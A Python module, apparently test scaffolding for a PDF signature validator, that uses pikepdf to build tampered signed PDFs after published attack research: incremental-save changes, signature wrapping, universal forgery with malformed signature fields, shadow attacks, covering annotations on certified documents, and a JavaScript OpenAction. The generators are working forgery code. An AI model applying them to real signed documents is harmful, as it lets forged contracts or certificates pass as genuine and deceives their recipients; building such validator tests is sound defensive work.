"""Published ways to change a signed PDF without its reader noticing, and some plain damage.

Families: incremental saving, signature wrapping and universal forgery (Mladenov et al. 2019), shadow attacks
(Mainka et al. 2021), attacks on certified documents (Rohlmann et al. 2021).
"""

import io
import re
from collections.abc import Callable, Mapping

import pikepdf
from pikepdf import Array, Dictionary, Name, String

EVIL_TEXT = b"BT /F0 24 Tf 100 700 Td (EVIL) Tj ET"


Changes = list[tuple[pikepdf.Object, bytes | None]]
"""Objects with their new bodies; None stands for what the object is now."""


def sizes(pdf: bytes) -> tuple[int, int, int]:
    """Where the hole begins and ends, and how much stands behind it."""
    found = re.search(rb"/ByteRange \[0 (\d+) (\d+) (\d+)", pdf)
    assert found is not None
    hole, after, size = (int(number) for number in found.groups())
    return hole, after, size


def last_table(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def objects(pdf: bytes, change: Callable[[pikepdf.Pdf], Changes]) -> dict[int, bytes]:
    """The bodies of objects that `change` changed."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        changed = change(opened)
        return {each.objgen[0]: each.unparse(resolved=True) if body is None else body for each, body in changed}


def updated(pdf: bytes, bodies: Mapping[int, bytes], *, table: bool = True, trailer: bool = True) -> bytes:
    """An incremental update with these objects, or a sloppy one."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        root, size = opened.Root.objgen[0], int(opened.trailer.Size)
        info = opened.trailer.Info.objgen[0]
    out, places = bytearray(pdf), {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    if table:
        out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
    if trailer:
        size = max(size, *(number + 1 for number in bodies), 0)
        out += b"trailer\n<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d>>\n" % (size, root, info, last_table(pdf))
        out += b"startxref\n%d\n" % start
    return bytes(out + b"%%EOF\n")


def stream(content: bytes) -> bytes:
    return b"<</Length %d>>\nstream\n%b\nendstream" % (len(content), content)


def _page_content(opened: pikepdf.Pdf) -> Changes:
    return [(opened.pages[0].Contents, stream(EVIL_TEXT))]


# Incremental saving.


def saved_with_other_content(pdf: bytes) -> bytes:
    return updated(pdf, objects(pdf, _page_content))


def saved_without_table(pdf: bytes) -> bytes:
    return updated(pdf, objects(pdf, _page_content), table=False)


def saved_without_table_and_trailer(pdf: bytes) -> bytes:
    return updated(pdf, objects(pdf, _page_content), table=False, trailer=False)


def saved_with_copied_signature(pdf: bytes) -> bytes:
    def change(opened: pikepdf.Pdf) -> Changes:
        return [*_page_content(opened), (opened.Root.AcroForm.Fields[0].V, None)]

    return updated(pdf, objects(pdf, change))


def saved_with_other_pages(pdf: bytes) -> bytes:
    def change(opened: pikepdf.Pdf) -> Changes:
        opened.Root.Lang = String("en")
        opened.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
        return [(opened.Root, None)]

    return updated(pdf, objects(pdf, change))


def saved_without_form(pdf: bytes) -> bytes:
    def change(opened: pikepdf.Pdf) -> Changes:
        del opened.Root.AcroForm
        del opened.Root.Perms
        return [(opened.Root, None)]

    return updated(pdf, objects(pdf, change))


# Signature wrapping.


def wrapped_by_moving(pdf: bytes) -> bytes:
    """The second signed part is moved down; what the reader finds at its old place is ours."""
    hole, after, size = sizes(pdf)
    bodies = objects(pdf, lambda opened: [*_page_content(opened), (opened.Root.AcroForm.Fields[0].V, None)])
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        value = opened.Root.AcroForm.Fields[0].V.objgen[0]
        root, total, info = opened.Root.objgen[0], int(opened.trailer.Size), opened.trailer.Info.objgen[0]
    contents = pdf[hole:after]
    rows = re.findall(rb"(\d+) 1\n(\d{10}) 00000 n \n", pdf[last_table(pdf) :])
    inner, places = bytearray(), {int(number): int(place) for number, place in rows}
    start = after
    before_table = last_table(pdf) - start
    shift = 4 * len(contents)
    bodies[value] = re.sub(
        rb"/ByteRange \[[^\]]*\]", b"/ByteRange [ 0 %d %d %d ]" % (hole, after + shift, size), bodies[value]
    )
    inner += b">>\nendobj\n".ljust(before_table)
    table_at = start + len(inner)
    numbers = sorted({*places, *bodies})
    filler = b"xref\n" + b"".join(b"%d 1\n%s\n" % (number, b"0" * 19) for number in numbers)
    filler += b"trailer\n<</Size %d/Root %d 0 R/Info %d 0 R/Prev %d>>\n" % (total, root, info, _previous(pdf))
    inner += filler + b"startxref\n%d\n%%%%EOF\n" % table_at
    for number, body in bodies.items():
        places[number] = start + len(inner)
        inner += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % place for place in sorted(places.items()))
    wanted = b"xref\n" + rows + filler[filler.index(b"trailer") :]
    inner[table_at - start : table_at - start + len(filler)] = wanted[: len(filler)].ljust(len(filler))
    return pdf[:after] + bytes(inner).ljust(shift) + pdf[after:]


def _previous(pdf: bytes) -> int:
    return int(re.findall(rb"/Prev (\d+)", pdf)[-1])


def wrapped_in_padding(pdf: bytes) -> bytes:
    """The text of the signature ends early; what is ours stands in the rest of the hole."""
    hole, after, _ = sizes(pdf)
    held = pdf[hole + 1 : after - 1].rstrip(b"0")
    held += b"0" * (len(held) % 2)
    ours = b">/Evil (%b)" % EVIL_TEXT.replace(b"(EVIL)", b"EVIL")
    room = after - hole - 1 - len(held)
    return pdf[: hole + 1] + held + ours.ljust(room) + pdf[after:]


def wrapped_by_range(pdf: bytes) -> bytes:
    """An update with a second signature object whose range leaves out more than the signature."""
    hole, after, size = sizes(pdf)

    def change(opened: pikepdf.Pdf) -> Changes:
        value = opened.Root.AcroForm.Fields[0].V
        value.ByteRange = Array([0, hole, after + 100, size - 100])
        return [(value, None)]

    return updated(pdf, objects(pdf, change))


# Universal forgery: a document that nobody signed, with the certificate of somebody.


def forged(unsigned: bytes, cms: bytes, **entries: pikepdf.Object | None) -> bytes:
    """An unsigned document with a signature whose entries are as given; None leaves one out."""
    with pikepdf.open(io.BytesIO(unsigned)) as opened:
        value = Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            SubFilter=Name("/ETSI.CAdES.detached"),
            Contents=String(cms),
            ByteRange=Array([0, 100, 200, 100]),
        )
        for key, entry in entries.items():
            if entry is None:
                del value[f"/{key}"]
            else:
                value[f"/{key}"] = entry
        widget = opened.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Sig,
                T=String("Signature1"),
                Rect=Array([0, 0, 0, 0]),
                P=opened.pages[0].obj,
                V=opened.make_indirect(value),
            )
        )
        opened.pages[0].Annots = Array([widget])
        opened.Root.AcroForm = Dictionary(Fields=Array([widget]), SigFlags=3)
        made = io.BytesIO()
        opened.save(made)
    return made.getvalue()


FORGERIES: dict[str, dict[str, pikepdf.Object | None]] = {
    "no contents": {"Contents": None},
    "empty contents": {"Contents": String(b"")},
    "contents of one zero": {"Contents": String(b"\0")},
    "contents of zeros": {"Contents": String(b"\0" * 64)},
    "contents that are no text": {"Contents": Array([0])},
    "no range": {"ByteRange": None},
    "empty range": {"ByteRange": Array([])},
    "range of nothing": {"ByteRange": Array([0, 0, 0, 0])},
    "negative range": {"ByteRange": Array([0, -10, 20, -5])},
    "range of three": {"ByteRange": Array([0, 10, 20])},
    "range outside": {"ByteRange": Array([0, 10, 10**12, 10])},
    "range that is no list": {"ByteRange": Name.Nothing},
    "range of a few bytes": {"ByteRange": Array([0, 9, 9, 9])},
    "both missing": {"Contents": None, "ByteRange": None},
}


# Shadow attacks: what is shown is prepared before the document is signed.


def with_shadow(unsigned: bytes) -> bytes:
    """A document whose content hides below a white cover, and which holds a second page tree."""
    with pikepdf.open(io.BytesIO(unsigned)) as opened:
        page = opened.pages[0]
        cover = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 600, 850]))
        cover = opened.make_stream(b"1 g 0 0 600 850 re f", cover)
        page.Resources.XObject = Dictionary(Cover=cover)
        shown = opened.make_stream(page.Contents.read_bytes() + b"\n/Artifact BMC q /Cover Do Q EMC\n")
        page.Contents = shown
        opened.Root.Shadow = Dictionary(
            Content=opened.make_stream(EVIL_TEXT), Cover=cover, Shown=shown, Text=String("later")
        )
        made = io.BytesIO()
        opened.save(made, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return made.getvalue()


def shadow_hidden(pdf: bytes) -> bytes:
    return updated(pdf, objects(pdf, lambda opened: [(opened.Root.Shadow.Cover, _empty_form())]))


def shadow_replaced(pdf: bytes) -> bytes:
    def change(opened: pikepdf.Pdf) -> Changes:
        font = next(iter(opened.pages[0].Resources.Font.values()))
        font.BaseFont = Name("/Other")
        return [(font, None)]

    return updated(pdf, objects(pdf, change))


def shadow_hidden_and_replaced(pdf: bytes) -> bytes:
    def change(opened: pikepdf.Pdf) -> Changes:
        page = opened.pages[0].obj
        page.Contents = opened.Root.Shadow.Content
        return [(page, None)]

    return updated(pdf, objects(pdf, change))


def _empty_form() -> bytes:
    return b"<</Type/XObject/Subtype/Form/BBox[0 0 600 850]/Length 0>>\nstream\n\nendstream"


# Attacks on certified documents.


def with_annotation(pdf: bytes) -> bytes:
    """A text that covers the page: the evil annotation."""
    number = _next_number(pdf)

    def change(opened: pikepdf.Pdf) -> Changes:
        page = opened.pages[0].obj
        page.Annots = Array([*page.get("/Annots", []), opened.get_object(number, 0)])
        return [(page, None)]

    note = b"<</Type/Annot/Subtype/FreeText/Rect[50 500 500 800]/Contents(EVIL)/DA(/Helv 40 Tf)/F 4>>"
    page = {key: body.replace(b" null ]", b" %d 0 R ]" % number) for key, body in objects(pdf, change).items()}
    return updated(pdf, {**page, number: note})


def with_covering_signature_field(pdf: bytes) -> bytes:
    """A field that shows text over the page: the sneaky signature."""
    number = _next_number(pdf)

    def change(opened: pikepdf.Pdf) -> Changes:
        page, form = opened.pages[0].obj, opened.Root.AcroForm
        page.Annots = Array([*page.get("/Annots", []), Name.New])
        form.Fields = Array([*form.Fields, Name.New])
        return [(page, None), (form if form.is_indirect else opened.Root, None)]

    field = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Evil)/Rect[50 500 500 800]/F 132/AP<</N %d 0 R>>>>" % (number + 1)
    look = b"<</Type/XObject/Subtype/Form/BBox[0 0 450 300]/Length %d>>\nstream\n%b\nendstream"
    bodies = {key: body.replace(b"/New", b"%d 0 R" % number) for key, body in objects(pdf, change).items()}
    return updated(pdf, {**bodies, number: field, number + 1: look % (len(EVIL_TEXT), EVIL_TEXT)})


def _next_number(pdf: bytes) -> int:
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        return int(opened.trailer.Size)


# Plain damage.


def with_flipped_byte(pdf: bytes, where: int) -> bytes:
    return pdf[:where] + bytes((pdf[where] ^ 1,)) + pdf[where + 1 :]


def with_other_padding(pdf: bytes) -> bytes:
    """One byte of the zeros behind the signature: no validator minds."""
    _, after, _ = sizes(pdf)
    return pdf[: after - 2] + b"1" + pdf[after - 1 :]


def with_same_objects_again(pdf: bytes) -> bytes:
    """An update that changes nothing."""

    def change(opened: pikepdf.Pdf) -> Changes:
        return [(opened.trailer.Info, None)]

    return updated(pdf, objects(pdf, change))


def rewritten(pdf: bytes) -> bytes:
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        opened.save(made)
    return made.getvalue()


ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    function.__name__.replace("_", " "): function
    for function in (
        saved_with_other_content,
        saved_without_table,
        saved_without_table_and_trailer,
        saved_with_copied_signature,
        saved_with_other_pages,
        saved_without_form,
        wrapped_by_moving,
        wrapped_in_padding,
        wrapped_by_range,
        shadow_hidden,
        shadow_replaced,
        shadow_hidden_and_replaced,
        with_annotation,
        with_covering_signature_field,
        rewritten,
    )
}
"""On a document signed with a shadow."""
